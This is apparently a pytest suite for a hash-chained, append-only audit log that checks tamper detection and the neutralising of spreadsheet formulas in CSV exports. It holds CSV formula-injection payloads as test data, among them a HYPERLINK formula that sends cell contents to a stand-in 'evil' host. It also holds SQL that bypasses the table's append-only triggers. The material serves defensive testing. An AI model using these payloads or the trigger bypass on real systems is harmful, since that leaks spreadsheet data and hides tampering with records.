"""The audit trail is append-only, chained per municipality, and verification finds edits and deletions; its
CSV export cannot carry a spreadsheet formula."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import asyncpg
import pytest
from starlette.testclient import TestClient

from app import audit, csvsafe
from app.main import create_app
from app.tenancy.transaction import tenant_transaction
from tests.conftest import run_cli
from tests.staff.test_web import login


async def _append_n(pool, code, n, actor=None):
    for i in range(n):
        async with tenant_transaction(pool, code) as conn:
            await audit.append(conn, code, actor, "test.event", "thing", i, {"i": i, "text": '改行\nと"引用";:'})


async def _verify(pool, code):
    async with tenant_transaction(pool, code, isolation="repeatable_read", readonly=True) as conn:
        return await audit.verify_chain(conn, code)


async def test_python_and_database_compute_the_same_hash(app_pool, municipality):
    code = await municipality()
    await _append_n(app_pool, code, 3)
    async with tenant_transaction(app_pool, code) as conn:
        rows = await conn.fetch(audit.ENTRIES, code)
        assert [r["seq"] for r in rows] == [1, 2, 3]
        assert rows[0]["prev_hash"] == audit.GENESIS
        for prev, row in zip(rows, rows[1:]):
            assert row["prev_hash"] == prev["hash"]
        for row in rows:
            assert audit.entry_hash(row) == row["hash"]
            assert (
                await conn.fetchval(
                    "SELECT kyufu_audit_hash(a) FROM audit_log a WHERE municipality_code = $1 AND seq = $2",
                    code,
                    row["seq"],
                )
                == row["hash"]
            )
    report = await _verify(app_pool, code)
    assert report.ok and report.entries == 3


async def test_the_app_role_cannot_update_or_delete_and_the_owner_is_refused_by_the_trigger(
    app_pool, owner_conn, municipality
):
    code = await municipality()
    await _append_n(app_pool, code, 1)
    async with app_pool.acquire() as conn:
        for sql in ("UPDATE audit_log SET action = 'x'", "DELETE FROM audit_log"):
            with pytest.raises(asyncpg.InsufficientPrivilegeError):
                async with tenant_transaction(conn, code):
                    await conn.execute(sql)
    for sql in ("UPDATE audit_log SET action = 'x'", "DELETE FROM audit_log", "TRUNCATE audit_log"):
        with pytest.raises(asyncpg.InsufficientPrivilegeError, match="append-only"):
            async with tenant_transaction(owner_conn, code):
                await owner_conn.execute(sql)


async def _tamper(servers, code, sql, *args):
    """What an attacker with superuser rights could do: bypass the trigger (and RLS) and rewrite history."""
    admin = await asyncpg.connect(servers.url_for(servers.admin_url, servers.database))
    try:
        async with admin.transaction():
            await admin.execute("SET LOCAL session_replication_role = replica")
            await admin.execute(sql, code, *args)
    finally:
        await admin.close()


async def test_verify_finds_an_edited_row(app_pool, municipality, servers):
    code = await municipality()
    await _append_n(app_pool, code, 5)
    await _tamper(servers, code, "UPDATE audit_log SET details = '{\"i\":99}' WHERE municipality_code = $1 AND seq = 3")
    report = await _verify(app_pool, code)
    assert not report.ok and report.broken_at == 3 and "改ざん" in report.reason


async def test_verify_finds_an_edited_row_whose_hash_was_recomputed(app_pool, municipality, servers):
    """Rewriting a row and its own hash still breaks the next row's link."""
    code = await municipality()
    await _append_n(app_pool, code, 5)
    await _tamper(servers, code, "UPDATE audit_log a SET details = '{}' WHERE municipality_code = $1 AND seq = 2")
    await _tamper(
        servers, code, "UPDATE audit_log a SET hash = kyufu_audit_hash(a) WHERE municipality_code = $1 AND seq = 2"
    )
    report = await _verify(app_pool, code)
    assert not report.ok and report.broken_at == 3


async def test_verify_finds_a_deleted_row(app_pool, municipality, servers):
    code = await municipality()
    await _append_n(app_pool, code, 5)
    await _tamper(servers, code, "DELETE FROM audit_log WHERE municipality_code = $1 AND seq = 4")
    report = await _verify(app_pool, code)
    assert not report.ok and report.broken_at == 4 and "削除" in report.reason


async def test_concurrent_appends_do_not_fork_the_chain(app_pool, municipality):
    code, other = await municipality(), await municipality()
    await asyncio.gather(*(_append_n(app_pool, c, 10) for c in (code, code, code, other, other)))
    for c, n in ((code, 30), (other, 20)):
        report = await _verify(app_pool, c)
        assert report.ok and report.entries == n


async def test_chains_are_per_municipality(app_pool, municipality):
    a, b = await municipality(), await municipality()
    await _append_n(app_pool, a, 2)
    await _append_n(app_pool, b, 1)
    async with tenant_transaction(app_pool, b) as conn:
        rows = await conn.fetch(audit.ENTRIES, b)
    assert [r["seq"] for r in rows] == [1] and rows[0]["prev_hash"] == audit.GENESIS


async def test_export_carries_the_hashed_text(app_pool, municipality):
    import json

    code = await municipality()
    await _append_n(app_pool, code, 2)
    async with tenant_transaction(app_pool, code) as conn:
        lines = [line async for line in audit.export_lines(conn, code, "jsonl")]
        csv_lines = [line async for line in audit.export_lines(conn, code, "csv")]
    entries = [json.loads(line) for line in lines]
    assert [e["seq"] for e in entries] == [1, 2]
    assert json.loads(entries[0]["details"])["text"] == '改行\nと"引用";:'
    assert csv_lines[0].startswith("seq,occurred_at")


# ---- formulas in the CSV export ---------------------------------------------------------------------------

HOSTILE_LOGIN = '=hyperlink("http://evil"&a1,"x")'
HOSTILE = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "x\r=1", "＝1+1"]


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_no_cell_starts_a_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in csvsafe.TRIGGERS, row


async def test_a_failed_login_typed_as_a_formula_is_exported_by_the_console_as_text(make_world, settings, app_pool):
    """An anonymous failed sign-in with a formula for a login, then the admin's CSV download: no cell of it may
    begin like a formula, and the failure's actor is the stored text neutralised (csvsafe.restore gives it
    back); JSON Lines, the stored row and the hash chain keep the stored text exactly.

    (Whether the typed login is stored at all is the sign-in code's business: it was stored as typed when
    this was written; if it is replaced by a placeholder, this still proves the download carries no formula.)"""
    world = await make_world(applications=0)
    with TestClient(create_app(settings), follow_redirects=False) as client:
        assert login(client, world.code, HOSTILE_LOGIN).status_code == 401
        assert login(client, world.code, "admin", totp=world.totp_now("admin")).status_code == 303
        exported = client.get("/staff/admin/audit/export", params={"format": "csv"})
        jsonl = client.get("/staff/admin/audit/export", params={"format": "jsonl"})
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = _csv_rows(exported.text)
    _assert_no_cell_starts_a_formula(rows)
    assert HOSTILE_LOGIN not in {cell for row in rows for cell in row.values()}
    [failed] = [r for r in rows if r["action"] == "login.failed"]

    [raw] = [e for e in map(json.loads, jsonl.text.splitlines()) if e["action"] == "login.failed"]
    async with tenant_transaction(app_pool, world.code) as conn:
        stored = await conn.fetchval(
            "SELECT actor_label FROM audit_log WHERE municipality_code = $1 AND seq = $2", world.code, raw["seq"]
        )
        report = await audit.verify_chain(conn, world.code)
    assert raw["seq"] == int(failed["seq"]) and raw["actor_label"] == stored and report.ok
    assert failed["actor_label"] == csvsafe.neutralise(stored) and csvsafe.restore(failed["actor_label"]) == stored


async def _append_hostile(pool, code) -> None:
    async with tenant_transaction(pool, code) as conn:
        for value in HOSTILE:
            # action is constrained to [a-z_.]; every other text column takes what it is given.
            await audit.append(conn, code, None, "test.event", value, value, {"note": value}, actor_label=value)


async def test_every_text_column_of_the_csv_export_is_neutralised(app_pool, municipality):
    code = await municipality()
    await _append_hostile(app_pool, code)
    async with tenant_transaction(app_pool, code) as conn:
        text = "".join([line async for line in audit.export_lines(conn, code, "csv")])
        jsonl = [json.loads(line) async for line in audit.export_lines(conn, code, "jsonl")]
    rows = _csv_rows(text)
    _assert_no_cell_starts_a_formula(rows)
    assert [r["actor_label"] for r in rows] == [csvsafe.neutralise(v) for v in HOSTILE]
    for row, entry, value in zip(rows, jsonl, HOSTILE):
        assert [csvsafe.restore(row[k]) for k in ("actor_label", "object_type", "object_id")] == [value] * 3
        assert json.loads(row["details"]) == {"note": value}  # JSON text begins with {, left as it is
        assert [entry[k] for k in ("actor_label", "object_type", "object_id")] == [value] * 3


async def test_kyufu_audit_export_writes_neutralised_csv_and_verify_still_passes(
    app_pool, municipality, subprocess_env, tmp_path
):
    code = await municipality()
    await _append_hostile(app_pool, code)
    out = tmp_path / "audit.csv"
    r = run_cli(subprocess_env, "audit", "export", "--municipality", code, "--format", "csv", "--out", str(out))
    assert r.returncode == 0, r.stderr
    rows = _csv_rows(out.read_bytes().decode("utf-8"))
    _assert_no_cell_starts_a_formula(rows)
    assert [r["actor_label"] for r in rows] == [csvsafe.neutralise(v) for v in HOSTILE]
    r = run_cli(subprocess_env, "audit", "verify", "--municipality", code)
    assert r.returncode == 0 and r.stdout.startswith("ok:"), r.stdout + r.stderr
